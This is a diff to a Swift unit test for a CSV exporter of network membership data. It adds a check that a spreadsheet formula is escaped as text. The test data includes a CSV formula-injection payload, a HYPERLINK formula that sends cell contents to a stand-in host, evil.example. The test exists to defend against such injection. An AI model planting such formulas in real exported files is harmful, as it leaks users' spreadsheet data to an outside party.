@@ -90,6 +90,7 @@ import Testing
         networks[seepag].groups[0].entries[0].since = try PartialDate("2003", field: "since")
         networks[seepag].groups[0].entries[0].note = "https://seepag.example/members, \"2026\""
         networks[seepag].groups[0].entries[1].sourceFootnote = 17
+        networks[seepag].groups[0].entries[2].note = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"
         let catalogue = Catalogue(networks: networks)
         let lines = MembershipTable.csv(catalogue).components(separatedBy: "\r\n").dropLast()
         #expect(lines.first == "network_slug,network_name,network_acronym,section,party_id,party_kind,party_code,party_name_en,party_name_fr,role,as_printed,heading,since,until,source")
@@ -97,6 +98,8 @@ import Testing
         #expect(lines.contains { $0.hasPrefix("seepag,") && $0.hasSuffix(",2003,,\"https://seepag.example/members, \"\"2026\"\"\"") }, "quoted as RFC 4180 says")
         #expect(lines.contains { $0.hasPrefix("seepag,") && $0.contains(",Bosnia Herzegovina,") && $0.hasSuffix(",,,\"CDPC (2017) 1, footnote 17\"") },
                 "a footnote of the report when the entry has no note")
+        #expect(lines.contains { $0.hasSuffix(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"") }, "a formula is text")
+        #expect(!lines.contains { $0.contains(",\"=HYPERLINK") || $0.contains(",=HYPERLINK") })
     }
 
     @Test func duplicateSlugsAreRefused() throws {
